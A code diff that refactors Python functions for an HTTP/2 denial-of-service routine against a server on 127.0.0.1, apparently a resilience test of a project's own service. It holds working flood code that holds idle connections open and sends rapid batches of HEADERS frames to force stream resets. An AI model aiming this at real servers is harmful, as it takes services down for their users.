@@ -16,24 +16,38 @@ _OPEN = 10
 loop = Loop()
 
 
+_held = ExitStack()
+
+
+@loop.function
+def gather(port: int) -> None:
+    """Open the silent connections, and those with handshakes that say nothing."""
+    for _ in range(_SILENT):
+        _held.enter_context(socket.create_connection(("127.0.0.1", port), timeout=20))
+    handshake = http2.headers(f"{_FLIGHT}/Handshake")
+    for _ in range(_OPEN):
+        connection = _held.enter_context(http2.connect(port))
+        calls = (http2.frame(http2.HEADERS, http2.END_HEADERS, number, handshake) for number in range(1, 201, 2))
+        with suppress(OSError):
+            connection.sendall(b"".join(calls))
+
+
 @loop.function
 def attack(port: int, seconds: float) -> int:
-    """All three for that long; the number of calls that were reset. The connections close at its end."""
+    """Make calls that are reset, for that long; their number."""
     end = time.monotonic() + seconds
-    with ExitStack() as held:
-        for _ in range(_SILENT):
-            held.enter_context(socket.create_connection(("127.0.0.1", port), timeout=20))
-        handshake = http2.headers(f"{_FLIGHT}/Handshake")
-        for _ in range(_OPEN):
-            connection = held.enter_context(http2.connect(port))
-            calls = (http2.frame(http2.HEADERS, http2.END_HEADERS, number, handshake) for number in range(1, 201, 2))
-            with suppress(OSError):
-                connection.sendall(b"".join(calls))
-        made = 0
-        while time.monotonic() < end:
-            with suppress(OSError), http2.connect(port) as connection:
-                made += _resets(connection, end)
-        return made
+    made = 0
+    while True:
+        with suppress(OSError), http2.connect(port) as connection:
+            made += _resets(connection, end)
+        if time.monotonic() > end:
+            return made
+
+
+@loop.function
+def leave() -> None:
+    """Close the connections that were opened at first."""
+    _held.close()
 
 
 def _resets(connection: socket.socket, end: float) -> int:
@@ -50,8 +64,6 @@ def _resets(connection: socket.socket, end: float) -> int:
     made = 0
     with suppress(OSError):
         for first in range(1, 20_001, 200):
-            if time.monotonic() > end:
-                break
             connection.sendall(
                 b"".join(
                     http2.frame(http2.HEADERS, http2.END_HEADERS, number, block)
@@ -60,6 +72,8 @@ def _resets(connection: socket.socket, end: float) -> int:
                 )
             )
             made += 100
+            if time.monotonic() > end:
+                break
     return made
 
 
